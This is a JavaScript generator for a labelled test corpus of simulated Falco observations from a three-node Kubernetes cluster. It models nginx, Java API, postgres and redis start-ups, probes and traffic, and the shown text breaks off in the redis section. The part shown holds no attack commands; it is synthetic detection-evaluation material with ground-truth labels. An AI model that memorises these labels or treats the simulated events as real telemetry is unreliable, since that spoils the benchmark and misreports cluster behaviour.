#!/usr/bin/env node
// Deterministic generator for the labelled detection-quality corpus in test/scenarios/.
//
//   node test/scenarios/generate.mjs          write cluster-week.jsonl
//   node test/scenarios/generate.mjs --check  regenerate in memory, exit 1 if
//                                             the file on disk differs
//
// Each line is one observation exactly as `vigil agent --stdout` prints it
// (ObservationJson in agent/model/observation.ts, docs/observation-model.md §5:
// JSON.stringify of the same keys in the same order, `time` RFC 3339 UTC with
// nine fractional digits) plus one extra top-level key, `label`:
//   {"part":"normal"}
//   {"part":"attack","attack":"<id>","technique":"<MITRE ATT&CK id>"}
// Lines are sorted by time (strictly increasing). One cluster ("prod"), three
// nodes, one simulated week (2026-11-16 .. 2026-11-22 UTC, day 1 = learning);
// activity is sampled, not every event of a real week. See README.md.
//
// No dependencies; no clock, no Math.random: the only randomness is a PRNG
// (mulberry32) seeded from the name of each timeline, so a change in one
// timeline does not shift the others.

import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const HERE = dirname(fileURLToPath(import.meta.url));
const OUT_FILE = 'cluster-week.jsonl';

// ---------------------------------------------------------------------------
// The contract with the agent's output format (rules/falco/vigil_rules.yaml).

export const RULE_EXEC = 'Vigil process exec';
export const RULE_CONNECT = 'Vigil outbound connect';
export const RULE_ACCEPT = 'Vigil inbound accept';
export const CLUSTER = 'prod';

// ---------------------------------------------------------------------------
// Time: BigInt nanoseconds, never a JS Number for the full value.

const NS = 1_000_000_000n;
const MS = 1_000_000n;
function isoNs(ns) {
  const sec = ns / NS;
  const frac = (ns % NS).toString().padStart(9, '0');
  return `${new Date(Number(sec) * 1000).toISOString().slice(0, 19)}.${frac}Z`;
}
function nsFromIso(iso) {
  const m = /^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)(?:\.(\d{9}))?Z$/.exec(iso);
  if (!m) throw new Error(`bad time ${iso}`);
  return BigInt(Date.parse(`${m[1]}Z`) / 1000) * NS + BigInt(m[2] ?? '0');
}

/** Day 1 starts here; day d is [T0 + (d-1)·24h, T0 + d·24h). Day 1 is the learning period. */
export const T0_ISO = '2026-11-16T00:00:00.000000000Z';
export const DAYS = 7;
const T0 = nsFromIso(T0_ISO);
const DAY = 86_400n * NS;
/** ns at `HH:MM[:SS]` UTC on day d (1-based). */
function at(day, clock) {
  const [h, m, s = '0'] = clock.split(':');
  return T0 + BigInt(day - 1) * DAY + (BigInt(h) * 3600n + BigInt(m) * 60n + BigInt(s)) * NS;
}

// ---------------------------------------------------------------------------
// Seeded PRNG (mulberry32) and helpers.

function seedOf(text) {
  let h = 2166136261;
  for (const ch of text) { h ^= ch.codePointAt(0); h = Math.imul(h, 16777619) >>> 0; }
  return h;
}
function makeRng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Rand {
  constructor(name) { this.rng = makeRng(seedOf(name)); }
  int(lo, hi) { return lo + Math.floor(this.rng() * (hi - lo + 1)); }
  pick(list) { return list[Math.floor(this.rng() * list.length)]; }
  chance(p) { return this.rng() < p; }
  hex(n) { let s = ''; for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(0, 15)]; return s; }
  // Kubernetes' rand.String alphabet (no vowels, no 0/1/3): pod suffixes and template hashes.
  k8s(n) { let s = ''; for (let i = 0; i < n; i++) s += 'bcdfghjklmnpqrstvwxz2456789'[this.int(0, 26)]; return s; }
  digest() { return `sha256:${this.hex(64)}`; }
  // `count` distinct times of day, sorted, in ms, each at least `gapMs` apart, inside [fromMs, toMs).
  times(count, fromMs, toMs, gapMs) {
    for (let attempt = 0; attempt < 1000; attempt++) {
      const list = Array.from({ length: count }, () => this.int(fromMs, toMs - 1)).sort((a, b) => a - b);
      if (list.every((v, i) => i === 0 || v - list[i - 1] >= gapMs)) return list;
    }
    throw new Error('cannot place times');
  }
}

// ---------------------------------------------------------------------------
// Cluster model.

const NODES = {
  'node-a': { ip: '10.0.1.10' },
  'node-b': { ip: '10.0.2.11' },
  'node-c': { ip: '10.0.3.12' },
};
const KUBE_DNS = '10.96.0.10';
const KUBE_API = '10.96.0.1';
const SVC = {
  storefront: '10.96.10.10',
  api: '10.96.20.15',
  postgres: '10.96.30.20',
  redis: '10.96.40.25',
  loki: '10.96.50.30',
};
const INGRESS_PODS = ['10.244.0.12', '10.244.1.13'];
const PROMETHEUS_POD = '10.244.2.9';
const ECR = '123456789012.dkr.ecr.eu-west-1.amazonaws.com';

// External names and the addresses Falco saw for them (several per name: they rotate).
const STRIPE = { name: 'api.stripe.com', ips: ['54.187.174.169', '54.187.205.235', '54.241.31.99'] };
const S3 = { name: 's3.eu-west-1.amazonaws.com', ips: ['52.218.48.10', '52.218.61.227', '52.92.16.42', '3.5.72.14', '3.5.66.190', '52.218.105.91'] };
const STS = { name: 'sts.eu-west-1.amazonaws.com', ips: ['67.220.241.70', '67.220.245.3'] };
const SENDGRID = { name: 'smtp.sendgrid.net', ips: ['159.183.224.104', '159.183.224.105'] };
const DEBIAN = { name: 'deb.debian.org', ips: ['151.101.194.132', '151.101.130.132'] };

const SHIM = { exe: '/usr/bin/containerd-shim-runc-v2', name: 'containerd-shim' };
const RUNC = { exe: '/usr/bin/runc', name: 'runc' };

const imgRand = new Rand('images');
const IMAGES = {
  storefront: { repo: `${ECR}/shop/storefront`, tag: '3.4.1', digest: imgRand.digest() },
  apiV1: { repo: `${ECR}/shop/api`, tag: '2.7.0', digest: imgRand.digest() },
  apiV2: { repo: `${ECR}/shop/api`, tag: '2.8.0', digest: imgRand.digest() },
  postgres: { repo: 'docker.io/library/postgres', tag: '16.4', digest: imgRand.digest() },
  redis: { repo: 'docker.io/library/redis', tag: '7.4.1', digest: imgRand.digest() },
  worker: { repo: `${ECR}/shop/worker`, tag: '1.12.3', digest: imgRand.digest() },
  backup: { repo: `${ECR}/ops/pg-backup`, tag: '1.4.0', digest: imgRand.digest() },
  fluentbit: { repo: 'cr.fluentbit.io/fluent/fluent-bit', tag: '3.2.2', digest: imgRand.digest() },
  curl: { repo: 'docker.io/curlimages/curl', tag: '8.11.0', digest: imgRand.digest() },
  dnsutils: { repo: 'registry.k8s.io/e2e-test-images/jessie-dnsutils', tag: '1.3', digest: imgRand.digest() },
};

const PG = '/usr/lib/postgresql/16/bin';
const JAVA = '/opt/java/openjdk/bin/java';
const PY = '/usr/local/bin/python3.12';
const AWS = '/usr/local/aws-cli/v2/2.22.4/dist/aws';

// ---------------------------------------------------------------------------
// Output.

export const NORMAL = Object.freeze({ part: 'normal' });
const attack = (id, technique) => ({ part: 'attack', attack: id, technique });

const EVENTS = []; // { ns, seq, line }
const pids = {};
const ports = {};
const pidRand = new Rand('pids');

function nextPid(node) {
  const cur = pids[node] ?? (pids[node] = pidRand.int(40_000, 90_000));
  pids[node] = cur + pidRand.int(1, 57);
  if (pids[node] > 4_194_000) pids[node] = 300 + pidRand.int(0, 999);
  return pids[node];
}
function ephemeralPort(ip) {
  const cur = ports[ip] ?? (ports[ip] = pidRand.int(33_000, 52_000));
  ports[ip] = cur + pidRand.int(1, 97);
  if (ports[ip] > 60_999) ports[ip] = 32_768 + pidRand.int(0, 500);
  return ports[ip];
}

// One timeline: its own clock and PRNG, and the label of what it emits.
class Flow extends Rand {
  constructor(name, startNs) {
    super(name);
    this.name = name;
    this.now = startNs;
    this.label = NORMAL;
  }
  // Moves the clock to `ns` plus a random sub-millisecond part; a timeline never goes back.
  jump(ns) {
    if (ns < this.now) throw new Error(`${this.name}: jump back from ${isoNs(this.now)} to ${isoNs(ns)}`);
    this.now = ns;
    this.now += BigInt(this.int(1, 999_999));
    return this.now;
  }
  // Advances the clock by ms milliseconds (a range picks at random) plus a
  // random sub-millisecond part, so every event has a distinct nanosecond time.
  tick(lo = 1, hi = lo) {
    this.now += BigInt(this.int(lo, hi)) * MS + BigInt(this.int(1, 999_999));
    return this.now;
  }
  // Runs `fn` with every event it emits labelled `label`.
  as(label, fn) {
    const prev = this.label;
    this.label = label;
    try { return fn(); } finally { this.label = prev; }
  }
  attack(id, technique, fn) { return this.as(attack(id, technique), fn); }

  // --- identities -----------------------------------------------------------
  // A container incarnation, started now: every (re)start is a new container with a new id.
  // `start` is Falco's container.start_ts, the start of the container's PID namespace init
  // (runc's init process, which then execs the entrypoint): 20-150 ms from now, before the
  // entrypoint's exec (every start function waits at least 200 ms for it). Its own PRNG, seeded
  // by the container id, so that the flow's sequence is not shifted.
  container(o) {
    const id = o.id ?? this.hex(12);
    const r = new Rand(`container-start-${id}`);
    return {
      id, name: o.name, image: o.image,
      ns: o.ns, kind: o.kind, workload: o.workload, pod: o.pod, node: o.node, ip: o.ip,
      start: this.now + BigInt(r.int(20, 150)) * MS + BigInt(r.int(0, 999_999)),
    };
  }
  proc(c, o) {
    if (o.name.length > 15) throw new Error(`proc.name longer than 15: ${o.name}`);
    return {
      c, pid: o.pid ?? nextPid(c.node), exe: o.exe, name: o.name,
      cmdline: o.args ? `${o.name} ${o.args}` : o.name,
      pexe: o.pexe ?? null, pname: o.pname ?? null,
      user: o.user === undefined ? 'root' : o.user, uid: o.uid ?? 0, upper: o.upper ?? false,
    };
  }
  // fork + exec by `parent` (or by containerd-shim / runc when parent is a
  // plain {exe,name} pair); emits the exec and returns the new process.
  spawn(parent, c, o, when) {
    const p = this.proc(c, {
      ...o, pexe: parent.exe, pname: parent.name,
      user: o.user === undefined ? (parent.user === undefined ? 'root' : parent.user) : o.user,
      uid: o.uid ?? parent.uid ?? 0,
    });
    this.exec(p, when);
    return p;
  }
  // exec without fork (`exec "$@"`, env -> bash, gosu, `sh -c 'one command'`): same pid and parent.
  reexec(p, o, when = [0, 3]) {
    const q = this.proc(p.c, {
      ...o, pid: p.pid, pexe: p.pexe, pname: p.pname,
      user: o.user === undefined ? p.user : o.user, uid: o.uid ?? p.uid,
    });
    this.exec(q, when);
    return q;
  }
  // A fork without exec (nginx worker, celery pool process, postgres backend).
  fork(parent, o = {}) {
    return {
      ...parent, pid: nextPid(parent.c.node), pexe: parent.exe, pname: parent.name,
      user: o.user === undefined ? parent.user : o.user, uid: o.uid ?? parent.uid,
    };
  }

  // --- observations ---------------------------------------------------------
  exec(p, when = [5, 400]) {
    this.tick(...when);
    this.emit(p.c, 'process', RULE_EXEC, {
      process: {
        exe: p.exe, name: p.name, cmdline: p.cmdline, parent: p.pexe, parent_name: p.pname,
        user: p.user, uid: p.uid, pid: p.pid, exe_upper_layer: p.upper,
      },
    });
  }
  connect(p, o, when = [20, 1500]) {
    this.tick(...when);
    const lip = p.c.ip;
    this.emit(p.c, 'network', RULE_CONNECT, {
      network: {
        direction: 'outbound', peer: o.ip, peer_name: o.name ?? null, port: o.port,
        protocol: o.proto ?? 'tcp', local_ip: lip, local_port: o.lport ?? ephemeralPort(lip),
      },
    });
  }
  accept(p, o, when = [20, 1500]) {
    this.tick(...when);
    this.emit(p.c, 'network', RULE_ACCEPT, {
      network: {
        direction: 'inbound', peer: o.ip, peer_name: null, port: o.port,
        protocol: 'tcp', local_ip: p.c.ip, local_port: o.port,
      },
    });
  }
  // glibc and Go resolve with a connected UDP socket: a connect event to kube-dns.
  dns(p, when = [1, 30]) { this.connect(p, { proto: 'udp', ip: KUBE_DNS, port: 53 }, when); }
  // Resolve (glibc) then connect to a name with rotating addresses.
  external(p, host, port, when = [50, 2000]) {
    this.dns(p, when);
    this.connect(p, { ip: this.pick(host.ips), port, name: host.name }, [1, 40]);
  }

  emit(c, type, rule, item) {
    if (c.start >= this.now) throw new Error(`${this.name}: ${c.id} has an event at ${isoNs(this.now)}, not after its start ${isoNs(c.start)}`);
    // Key order of observationToJson (agent/model/observation.ts), then the label.
    const obs = {
      time: isoNs(this.now),
      node: c.node,
      type,
      workload: { cluster: CLUSTER, namespace: c.ns, kind: c.kind, name: c.workload },
      pod: c.pod,
      container: c.name,
      container_id: c.id,
      container_start: isoNs(c.start),
      image: `${c.image.repo}:${c.image.tag}`,
      image_digest: c.image.digest,
      rule,
      priority: 'informational',
      ...item,
      label: this.label,
    };
    EVENTS.push({ ns: this.now, seq: EVENTS.length, line: JSON.stringify(obs) });
  }
}

// Evenly spread "bursts" of activity over each day: the times of day (ms), never within
// `avoid` (pairs of [fromNs, toNs]) so that traffic does not overlap a restart.
function burstTimes(f, day, count, avoid = []) {
  const from = day === 1 ? 15 * 60_000 : 0; // workloads start in the first minutes of day 1
  const list = f.times(count, from, 86_400_000 - 60_000, 120_000);
  const start = at(day, '00:00');
  return list.map((ms) => start + BigInt(ms) * MS).filter((ns) => !avoid.some(([a, b]) => ns >= a && ns < b));
}

// The incarnation (container instance) of a pod that is running at `ns`.
function current(incarnations, ns) {
  let found = null;
  for (const inc of incarnations) if (inc.ready <= ns && (inc.until === undefined || ns < inc.until)) found = inc;
  return found;
}

// ---------------------------------------------------------------------------
// shop/Deployment/storefront: nginx (custom image on nginx:1.27.3-bookworm), 3 replicas.

const STOREFRONT_HASH = new Rand('storefront-hash').k8s(10);
const storefrontPods = (() => {
  const r = new Rand('storefront-pods');
  return [
    { pod: `storefront-${STOREFRONT_HASH}-${r.k8s(5)}`, node: 'node-a', ip: '10.244.0.21' },
    { pod: `storefront-${STOREFRONT_HASH}-${r.k8s(5)}`, node: 'node-b', ip: '10.244.1.22' },
    { pod: `storefront-${STOREFRONT_HASH}-${r.k8s(5)}`, node: 'node-c', ip: '10.244.2.23' },
  ];
})();

function storefrontStart(f, p) {
  const c = f.container({ name: 'nginx', image: IMAGES.storefront, ns: 'shop', kind: 'Deployment', workload: 'storefront', ...p });
  // /docker-entrypoint.sh is a /bin/sh script: the kernel runs dash, comm is
  // the script name cut to 15 characters, argv gains the script path.
  const ep = f.spawn(SHIM, c, { exe: '/usr/bin/dash', name: 'docker-entrypoi', args: '/docker-entrypoint.sh nginx -g daemon off;' }, [200, 900]);
  f.spawn(ep, c, { exe: '/usr/bin/find', name: 'find', args: '/docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f -print -quit' });
  f.spawn(ep, c, { exe: '/usr/bin/find', name: 'find', args: '/docker-entrypoint.d/ -follow -type f -print' });
  f.spawn(ep, c, { exe: '/usr/bin/sort', name: 'sort', args: '-V' }, [0, 3]);
  const v6 = f.spawn(ep, c, { exe: '/usr/bin/dash', name: '10-listen-on-ip', args: '/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh' });
  f.spawn(v6, c, { exe: '/usr/bin/touch', name: 'touch', args: '/etc/nginx/conf.d/default.conf' });
  f.spawn(v6, c, { exe: '/usr/bin/dpkg-query', name: 'dpkg-query', args: '--show --showformat=${Conffiles}\\n nginx' });
  f.spawn(v6, c, { exe: '/usr/bin/grep', name: 'grep', args: 'etc/nginx/conf.d/default.conf' }, [0, 3]);
  f.spawn(v6, c, { exe: '/usr/bin/cut', name: 'cut', args: '-d   -f 3' }, [0, 3]);
  f.spawn(v6, c, { exe: '/usr/bin/md5sum', name: 'md5sum', args: '-c -' });
  f.spawn(ep, c, { exe: '/usr/bin/mawk', name: 'awk', args: 'BEGIN{ORS=" "} $1=="nameserver" {print ($2 ~ ":")? "["$2"]": $2}' });
  const tpl = f.spawn(ep, c, { exe: '/usr/bin/dash', name: '20-envsubst-on-', args: '/docker-entrypoint.d/20-envsubst-on-templates.sh' });
  f.spawn(tpl, c, { exe: '/usr/bin/mawk', name: 'awk', args: 'END { for (name in ENVIRON) { print ( name ~ /.*/ ) ? name : "" } }' });
  f.spawn(tpl, c, { exe: '/usr/bin/find', name: 'find', args: '/etc/nginx/templates -follow -type f -name *.template -print' });
  f.spawn(tpl, c, { exe: '/usr/bin/basename', name: 'basename', args: '/etc/nginx/templates/default.conf.template .template' });
  f.spawn(tpl, c, { exe: '/usr/bin/envsubst', name: 'envsubst', args: '${API_UPSTREAM} ${NGINX_PORT}' });
  f.spawn(ep, c, { exe: '/usr/bin/dash', name: '30-tune-worker-', args: '/docker-entrypoint.d/30-tune-worker-processes.sh' });
  const master = f.reexec(ep, { exe: '/usr/sbin/nginx', name: 'nginx', args: '-g daemon off;' });
  // Upstream name resolved while parsing the config (glibc: connected UDP).
  f.dns(master, [2, 10]);
  f.dns(master, [0, 2]);
  const workers = [0, 1].map(() => f.fork(master, { user: 'nginx', uid: 101 }));
  // kubelet probes every new container from its start: the first httpGet readiness probe.
  f.accept(workers[0], { ip: NODES[c.node].ip, port: 80 }, [1000, 10_000]);
  return { c, master, workers, ready: f.tick(500, 2000) };
}

function storefront() {
  const pods = storefrontPods.map((p, i) => {
    const f = new Flow(`storefront-${i}`, at(1, '00:00:12') + BigInt(i * 21) * NS);
    const incs = [storefrontStart(f, p)];
    // Day 7, 08:14: pod 3's liveness probe fails (upstream timeouts), kubelet restarts the container.
    if (i === 2) {
      const restart = at(7, '08:14:37');
      incs[0].until = restart;
      f.jump(restart);
      incs.push(storefrontStart(f, p));
    }
    return { p, incs, restarts: i === 2 ? [[at(7, '08:14:00'), at(7, '08:16:00')]] : [] };
  });

  pods.forEach(({ p, incs, restarts }, i) => {
    const f = new Flow(`storefront-traffic-${i}`, T0);
    for (let day = 1; day <= DAYS; day++) {
      burstTimes(f, day, 22, restarts).forEach((ns, n) => {
        const inc = current(incs, ns);
        f.jump(ns);
        const w = f.pick(inc.workers);
        const full = day === 1 && n === 0;
        f.accept(w, { ip: f.pick(INGRESS_PODS), port: 80 }, [1, 40]);
        if (full || f.chance(0.75)) f.connect(w, { ip: SVC.api, port: 8080 }, [1, 20]);
        if (full || f.chance(0.3)) f.accept(w, { ip: NODES[p.node].ip, port: 80 }, [100, 3000]); // kubelet httpGet probe
        if (full || f.chance(0.1)) f.dns(w, [1, 30]); // `resolver ... valid=300s` re-resolution
      });
    }
  });
  return pods;
}

// ---------------------------------------------------------------------------
// shop/Deployment/api: Java (eclipse-temurin 21, Ubuntu jammy), 2 replicas.
// Day 3 10:02: rollout 2.7.0 -> 2.8.0 (new digest, new ReplicaSet, new pods); 2.8.0's
// entrypoint runs /app/bin/migrate (a Go binary in the image) before `exec java`.

const API_ROLLOUT = at(3, '10:02:00');
const apiPods = (() => {
  const r = new Rand('api-pods');
  const h1 = r.k8s(10);
  const h2 = r.k8s(10);
  return [
    { pod: `api-${h1}-${r.k8s(5)}`, node: 'node-a', ip: '10.244.0.31', version: 1, start: at(1, '00:00:40'), until: API_ROLLOUT + 60n * NS },
    { pod: `api-${h1}-${r.k8s(5)}`, node: 'node-c', ip: '10.244.2.32', version: 1, start: at(1, '00:01:05'), until: API_ROLLOUT + 155n * NS },
    { pod: `api-${h2}-${r.k8s(5)}`, node: 'node-b', ip: '10.244.1.35', version: 2, start: API_ROLLOUT + 4n * NS },
    { pod: `api-${h2}-${r.k8s(5)}`, node: 'node-c', ip: '10.244.2.36', version: 2, start: API_ROLLOUT + 97n * NS },
  ];
})();
/** Pod IPs of the API replicas running at `ns` (clients of postgres and redis). */
function apiIpsAt(ns) {
  return apiPods.filter((p) => p.start <= ns && (p.until === undefined || ns < p.until)).map((p) => p.ip);
}
// UID 10001 has no /etc/passwd entry in the image: user.name is null.
const APP_USER = { user: null, uid: 10001 };

function apiStart(f, p) {
  const image = p.version === 1 ? IMAGES.apiV1 : IMAGES.apiV2;
  const c = f.container({ name: 'api', image, ns: 'shop', kind: 'Deployment', workload: 'api', ...p });
  let jvm;
  if (p.version === 1) {
    const sh = f.spawn(SHIM, c, { exe: '/usr/bin/dash', name: 'sh', args: '-c exec java $JAVA_OPTS -jar /app/api.jar', ...APP_USER }, [300, 1500]);
    jvm = f.reexec(sh, { exe: JAVA, name: 'java', args: '-XX:MaxRAMPercentage=75.0 -XX:+ExitOnOutOfMemoryError -jar /app/api.jar' });
  } else {
    const sh = f.spawn(SHIM, c, { exe: '/usr/bin/dash', name: 'sh', args: '-c /app/bin/migrate up --dir /app/migrations && exec java $JAVA_OPTS -jar /app/api.jar', ...APP_USER }, [300, 1500]);
    const mig = f.spawn(sh, c, { exe: '/app/bin/migrate', name: 'migrate', args: 'up --dir /app/migrations' }, [2, 20]);
    f.dns(mig, [5, 40]);
    f.connect(mig, { ip: SVC.postgres, port: 5432 }, [1, 10]);
    f.tick(800, 2500);
    jvm = f.reexec(sh, { exe: JAVA, name: 'java', args: '-XX:MaxRAMPercentage=75.0 -XX:+ExitOnOutOfMemoryError -jar /app/api.jar' });
  }
  // Start-up: JDBC pool and Redis (Lettuce) after resolving the service names.
  f.dns(jvm, [3000, 8000]);
  f.connect(jvm, { ip: SVC.postgres, port: 5432 }, [1, 20]);
  f.connect(jvm, { ip: SVC.postgres, port: 5432 }, [1, 20]);
  f.dns(jvm, [10, 200]);
  f.connect(jvm, { ip: SVC.redis, port: 6379 }, [1, 20]);
  // kubelet probes every new container from its start: the first httpGet /actuator/health.
  f.accept(jvm, { ip: NODES[c.node].ip, port: 8080 }, [2000, 10_000]);
  return { c, jvm, ready: f.tick(2000, 5000) };
}

function api() {
  const pods = apiPods.map((p, i) => {
    const f = new Flow(`api-${i}`, p.start);
    const inc = apiStart(f, p);
    if (p.until !== undefined) inc.until = p.until;
    return { p, incs: [inc] };
  });
  pods.forEach(({ p, incs }, i) => {
    const f = new Flow(`api-traffic-${i}`, T0);
    for (let day = 1; day <= DAYS; day++) {
      burstTimes(f, day, 22).forEach((ns, n) => {
        const inc = current(incs, ns);
        if (!inc) return; // this pod did not exist at that time
        f.jump(ns);
        const full = n < 2 && (day === 1 || ns < inc.ready + 6n * 3600n * NS);
        f.accept(inc.jvm, { ip: storefrontPods[f.int(0, 2)].ip, port: 8080 }, [1, 40]);
        if (full || f.chance(0.6)) f.connect(inc.jvm, { ip: SVC.postgres, port: 5432 }, [1, 30]);
        if (full || f.chance(0.45)) f.connect(inc.jvm, { ip: SVC.redis, port: 6379 }, [1, 30]);
        if (full || f.chance(0.3)) f.external(inc.jvm, STRIPE, 443, [5, 200]); // payment authorisation
        if (full || f.chance(0.3)) f.accept(inc.jvm, { ip: NODES[p.node].ip, port: 8080 }, [100, 5000]); // httpGet /actuator/health
      });
    }
  });
  return pods;
}

// ---------------------------------------------------------------------------
// shop/StatefulSet/postgres: postgres-0, official image (Debian bookworm).

const pgUser = { user: 'postgres', uid: 999 };
const PG_POD = { pod: 'postgres-0', node: 'node-b', ip: '10.244.1.40' };

// readinessProbe: exec ["pg_isready", "-U", "postgres", "-h", "127.0.0.1"] (loopback: no connect event).
function pgReadiness(f, c, when) {
  f.spawn(RUNC, c, { exe: `${PG}/pg_isready`, name: 'pg_isready', args: '-U postgres -h 127.0.0.1 -p 5432', ...pgUser }, when);
}
// livenessProbe: exec ["/bin/sh", "-c", "exec pg_isready -U postgres -d shop"].
function pgLiveness(f, c, when) {
  const sh = f.spawn(RUNC, c, { exe: '/usr/bin/dash', name: 'sh', args: '-c exec pg_isready -U postgres -d shop', ...pgUser }, when);
  f.reexec(sh, { exe: `${PG}/pg_isready`, name: 'pg_isready', args: '-U postgres -d shop' }, [0, 2]);
}

// docker-entrypoint.sh: `#!/usr/bin/env bash`, root -> gosu -> postgres; initdb on first start only.
function postgresStart(f, init) {
  const c = f.container({ name: 'postgres', image: IMAGES.postgres, ns: 'shop', kind: 'StatefulSet', workload: 'postgres', ...PG_POD });
  const env = f.spawn(SHIM, c, { exe: '/usr/bin/env', name: 'docker-entrypoi', args: 'bash /usr/local/bin/docker-entrypoint.sh postgres' }, [300, 1200]);
  const bash = f.reexec(env, { exe: '/usr/bin/bash', name: 'bash', args: '/usr/local/bin/docker-entrypoint.sh postgres' }, [0, 2]);
  f.spawn(bash, c, { exe: '/usr/bin/id', name: 'id', args: '-u' });
  f.spawn(bash, c, { exe: '/usr/bin/mkdir', name: 'mkdir', args: '-p /var/lib/postgresql/data' });
  f.spawn(bash, c, { exe: '/usr/bin/chmod', name: 'chmod', args: '00700 /var/lib/postgresql/data' });
  f.spawn(bash, c, { exe: '/usr/bin/find', name: 'find', args: '/var/lib/postgresql/data ! -user postgres -exec chown postgres {} +' });
  f.spawn(bash, c, { exe: '/usr/bin/find', name: 'find', args: '/var/run/postgresql ! -user postgres -exec chown postgres {} +' });
  const gosu = f.reexec(bash, { exe: '/usr/local/bin/gosu', name: 'gosu', args: 'postgres /usr/local/bin/docker-entrypoint.sh postgres' });
  const env2 = f.reexec(gosu, { exe: '/usr/bin/env', name: 'docker-entrypoi', args: 'bash /usr/local/bin/docker-entrypoint.sh postgres', ...pgUser }, [0, 3]);
  const bash2 = f.reexec(env2, { exe: '/usr/bin/bash', name: 'bash', args: '/usr/local/bin/docker-entrypoint.sh postgres' }, [0, 2]);
  f.spawn(bash2, c, { exe: '/usr/bin/id', name: 'id', args: '-u' });
  if (init) {
    const initdb = f.spawn(bash2, c, { exe: `${PG}/initdb`, name: 'initdb', args: '--username=postgres --pwfile=/dev/fd/63' }, [20, 80]);
    f.spawn(initdb, c, { exe: `${PG}/postgres`, name: 'postgres', args: '-V' });
    for (const args of [
      '--check -F -c log_checkpoints=false -c max_connections=100 -c shared_buffers=1000 -c dynamic_shared_memory_type=posix',
      '--boot -F -c log_checkpoints=false -X 1048576 -k',
      '--single -F -O -j -c search_path=pg_catalog -c exit_on_error=true -c log_checkpoints=false template1',
    ]) {
      const sh = f.spawn(initdb, c, { exe: '/usr/bin/dash', name: 'sh', args: `-c "${PG}/postgres" ${args}` }, [30, 600]);
      f.reexec(sh, { exe: `${PG}/postgres`, name: 'postgres', args }, [0, 2]);
    }
    const pgctl = f.spawn(bash2, c, { exe: `${PG}/pg_ctl`, name: 'pg_ctl', args: "-D /var/lib/postgresql/data -o -c listen_addresses='' -p 5432 -w start" }, [200, 900]);
    const sh = f.spawn(pgctl, c, { exe: '/usr/bin/dash', name: 'sh', args: `-c exec "${PG}/postgres" -c listen_addresses='' -p 5432 < "/dev/null" 2>&1` });
    f.reexec(sh, { exe: `${PG}/postgres`, name: 'postgres', args: '-c listen_addresses= -p 5432' }, [0, 2]);
    f.spawn(bash2, c, { exe: '/usr/bin/psql', name: 'psql', args: '-v ON_ERROR_STOP=1 --username postgres --no-password --no-psqlrc --dbname postgres' }, [100, 400]);
    f.spawn(bash2, c, { exe: `${PG}/pg_ctl`, name: 'pg_ctl', args: '-D /var/lib/postgresql/data -m fast -w stop' }, [50, 300]);
  }
  const pm = f.reexec(bash2, { exe: `${PG}/postgres`, name: 'postgres' }, [100, 600]);
  // kubelet runs the exec probes of every new container from its start (see postgres() for
  // the commands): readiness right away, liveness after its initialDelaySeconds.
  pgReadiness(f, c, [2000, 8000]);
  pgLiveness(f, c, [10_000, 20_000]);
  return { c, pm, ready: f.tick(1000, 3000) };
}

function postgres() {
  const f = new Flow('postgres-0', at(1, '00:00:05'));
  const incs = [postgresStart(f, true)];
  // Day 5 06:31: OOMKilled during a long analytics query; kubelet restarts the container.
  const restart = at(5, '06:31:10');
  incs[0].until = restart;
  f.jump(restart);
  incs.push(postgresStart(f, false));
  const avoid = [[restart - 60n * NS, restart + 120n * NS]];

  const clients = (ns) => [...apiIpsAt(ns), ...workerPods.map((p) => p.ip)];
  const t = new Flow('postgres-traffic', T0);
  for (let day = 1; day <= DAYS; day++) {
    burstTimes(t, day, 18, avoid).forEach((ns, n) => {
      const inc = current(incs, ns);
      t.jump(ns);
      const full = day === 1 && n === 0;
      const backend = inc.pm;
      t.accept(backend, { ip: t.pick(clients(ns)), port: 5432 }, [1, 40]);
      if (full || t.chance(0.5)) pgReadiness(t, inc.c, [100, 4000]);
      if (full || t.chance(0.2)) pgLiveness(t, inc.c, [100, 4000]);
    });
  }
  return { incs };
}

// ---------------------------------------------------------------------------
// shop/Deployment/redis: one replica, official image (Debian bookworm); tcpSocket probes.

const REDIS_POD = (() => {
  const r = new Rand('redis-pod');
  return { pod: `redis-${r.k8s(10)}-${r.k8s(5)}`, node: 'node-c', ip: '10.244.2.50' };
})();

function redis() {
  const f = new Flow('redis', at(1, '00:00:09'));
  const c = f.container({ name: 'redis', image: IMAGES.redis, ns: 'shop', kind: 'Deployment', workload: 'redis', ...REDIS_POD });
  const args = 'redis-server --appendonly yes --maxmemory 1gb --maxmemory-policy allkeys-lru';
  const ep = f.spawn(SHIM, c, { exe: '/usr/bin/dash', name: 'docker-entrypoi', args: `/usr/local/bin/docker-entrypoint.sh ${args}` }, [200, 600]);
  f.spawn(ep, c, { exe: '/usr/bin/find', name: 'find', args: '. ! -user redis -exec chown redis {} +' });
  f.spawn(ep, c, { exe: '/usr/bin/id', name: 'id', args: '-u' }, [0, 3]);
  const gosu = f.reexec(ep, { exe: '/usr/local/bin/gosu', name: 'gosu', args: `redis /usr/local/bin/docker-entrypoint.sh ${args}` });
  const ep2 = f.reexec(gosu, { exe: '/usr/bin/dash', name: 'docker-entrypoi', args: `/usr/local/bin/docker-entrypoint.sh ${args}`, user: 'redis', uid: 999 }, [0, 3]);
  f.spawn(ep2, c, { exe: '/usr/bin/id', name: 'id', args: '-u' }, [0, 3]);
  const server = f.reexec(ep2, { exe: '/usr/local/bin/redis-server', name: 'redis-server', args: '*:6379' }, [0, 5]);
  // kubelet probes the new container from its start: the first tcpSocket probe.
  f.accept(server, { ip: NODES[c.node].ip, port: 6379 }, [1000, 10_000]);

  const t = new Flow('redis-traffic', T0);
  for (let day = 1; day <= DAYS; day++) {
    burstTimes(t, day, 12).forEach((ns, n) => {
      t.jump(ns);
      t.accept(server, { ip: t.pick([...apiIpsAt(ns), ...workerPods.map((p) => p.ip)]), port: 6379 }, [1, 40]);
      if ((day === 1 && n === 0) || t.chance(0.4)) t.accept(server, { ip: NODES[c.node].ip, port: 6379 }, [100, 5000]); // tcpSocket probe
    });
